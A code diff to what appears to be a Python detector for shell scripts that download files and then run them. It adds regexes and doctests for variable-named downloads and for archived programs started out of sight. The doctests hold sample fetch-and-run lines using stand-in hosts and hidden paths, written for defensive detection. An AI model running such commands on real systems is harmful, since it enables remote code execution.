@@ -45,6 +45,8 @@ _WINDOWS_FETCH = re.compile(
 WebClient's ``DownloadFile`` and the certutil/bitsadmin living-off-the-land forms."""
 _PS_VARIABLE = re.compile(r"^\$\w+$")
 _SHELL_VARIABLE = re.compile(r"^[\"']?\$\{?(\w+)\}?[\"']?$")
+_NAMED_BY_VARIABLE = re.compile(r"^\$\{?\w+\}?$")
+"""A file named by a variable in a folder (``-o "$tmp/$pkg"``): the same words name it later."""
 """A shell variable that holds the path written (``-o "$tmp"`` after ``tmp=$(mktemp)``)."""
 _INTERPRETERS = r"(?:(?:ba|z|da|k)?sh|source|\.|python[\d.]*|node|perl|ruby|php)"
 
@@ -63,6 +65,8 @@ def saved_downloads(lines: list[str]) -> list[SavedDownload]:
 
     >>> saved_downloads(["wget -qO /tmp/.x https://x.invalid/a.sh"])
     [SavedDownload(line=1, url='https://x.invalid/a.sh', name='.x')]
+    >>> saved_downloads(['curl -fsSL "https://x.invalid/r/${pkg}" -o "${tmp}/${pkg}"'])
+    [SavedDownload(line=1, url='https://x.invalid/r/${pkg}', name='${pkg}')]
     """
     found = []
     for number, line in enumerate(lines, 1):
@@ -71,7 +75,7 @@ def saved_downloads(lines: list[str]) -> list[SavedDownload]:
                 url, target = _url_and_target(match.group(1), match.group(2).split())
                 variable = _SHELL_VARIABLE.match(target)
                 name = f"${variable.group(1)}" if variable else _file_name(target)
-                if url and (_SAFE_NAME.match(name) or variable):
+                if url and (_SAFE_NAME.match(name) or variable or _NAMED_BY_VARIABLE.match(name)):
                     found.append(SavedDownload(number, url, name))
         if "://" in line:
             found += _windows_downloads(number, line)
@@ -210,13 +214,18 @@ _INTO = re.compile(r"(?:-C|--directory(?:=|\s+)|-d)\s*[\"']?(?P<folder>[^\s;&|\"
 
 
 def _runs_unpacked(name: str, text: str) -> bool:
-    """``text`` unpacks the downloaded archive ``name`` into a folder and runs a script
-    from it: by its path (``bash "$work/bundle/fix.sh"``), after changing into the folder
+    """``text`` unpacks the downloaded archive ``name`` into a folder and runs a script or
+    program from it: by its path (``bash "$work/bundle/fix.sh"``, ``"$dir/bin/core" &``),
+    after changing into the folder
     (``cd "$work/bundle" && bash ./normalize.sh``) or from a loop over its scripts
     (``for s in "$work"/bundle/*.sh; do bash "$s"``).
 
     >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\nfor s in "$w"/*.sh; do bash "$s"')
     True
+    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w/bin"\\n"$w/bin/core" --register &')
+    True
+    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\nsudo "$w/aws/install" --update')
+    False
     >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\ncp "$w/m/t.csv" data/')
     False
     """
@@ -229,7 +238,10 @@ def _runs_unpacked(name: str, text: str) -> bool:
         after = text[unpacked.end() :]
         script = rf"[\"']?{folder}[\"']?/[^\s;&|)]*"
         if re.search(
-            rf"(?:{_COMMAND_START})(?:{_INTERPRETERS}\s+(?:-\S+\s+)*{script}|{script}\.(?:sh|py)\b)",
+            rf"(?:{_COMMAND_START})(?:{_INTERPRETERS}\s+(?:-\S+\s+)*{script}|{script}\.(?:sh|py)\b"
+            # or a program of it started by its path out of sight (in the background, its
+            # output discarded); a vendor's installer run in the open is the documented step
+            rf"|{script}[\"']?[ \t][^\n]*?(?:>\s*/dev/null|&[ \t]*$))",
             after,
             re.M,
         ):
